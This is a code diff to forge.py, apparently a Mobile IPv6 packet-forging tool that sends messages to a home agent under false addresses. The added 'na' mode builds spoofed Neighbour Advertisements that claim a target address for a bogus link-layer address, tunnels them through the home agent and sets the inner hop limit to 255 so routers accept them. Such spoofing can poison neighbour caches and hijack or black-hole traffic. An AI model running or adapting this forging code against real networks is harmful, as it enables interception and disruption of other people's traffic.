@@ -8,6 +8,7 @@
     forge.py bu HA SRC HOA COA SEQ              home registrations that come from SRC and name COA, for SEQ and the seven numbers after
     forge.py mps HA SRC HOA                     Mobile Prefix Solicitations of HOA that come from SRC
     forge.py hoti HA COA HOA CN                 Home Test Inits to CN in a plain tunnel from COA to the home agent
+    forge.py na HA COA HOA TARGET               Neighbour Advertisements of TARGET to the site's routers, in a plain tunnel from COA
     forge.py names HA COA HOA                   packets in the home agent's tunnel, each from another address
     forge.py tunnel HA COA HOA SRC              the same, all from SRC
 
@@ -65,6 +66,13 @@ def packets(args):
             body = struct.pack("!HH", i + 1, 0)
             total = checksum(hoa + ha + struct.pack("!IHBB", 8, 0, 0, 58) + b"\x92\0\0\0" + body)
             yield ha, ipv6(src, ha, OPTIONS, 0, home_address(58, hoa) + b"\x92\0" + struct.pack("!H", total) + body)
+        elif args.what == "na":
+            ha, coa, hoa = a
+            routers = ipaddress.IPv6Address("ff05::2").packed
+            body = struct.pack("!I", 0x20000000) + ipaddress.IPv6Address(args.words[3]).packed + b"\2\1" + bytes.fromhex("02badbadbad0")
+            total = checksum(hoa + routers + struct.pack("!IHBB", 4 + len(body), 0, 0, 58) + b"\x88\0\0\0" + body)
+            inner = ipv6(hoa, routers, 58, 0, b"\x88\0" + struct.pack("!H", total) + body)
+            yield ha, ipv6(coa, ha, 41, 0, inner[:7] + b"\xff" + inner[8:])
         elif args.what == "hoti":
             ha, coa, hoa = a
             cn = ipaddress.IPv6Address(args.words[3]).packed
@@ -77,7 +85,7 @@ def packets(args):
 
 def main():
     parser = argparse.ArgumentParser(description="messages under any name")
-    parser.add_argument("what", choices=("be", "ba", "bu", "hoti", "mps", "names", "tunnel"))
+    parser.add_argument("what", choices=("be", "ba", "bu", "hoti", "mps", "na", "names", "tunnel"))
     parser.add_argument("words", nargs="+")
     parser.add_argument("--count", type=int, default=100)
     parser.add_argument("--rate", type=float, default=100)
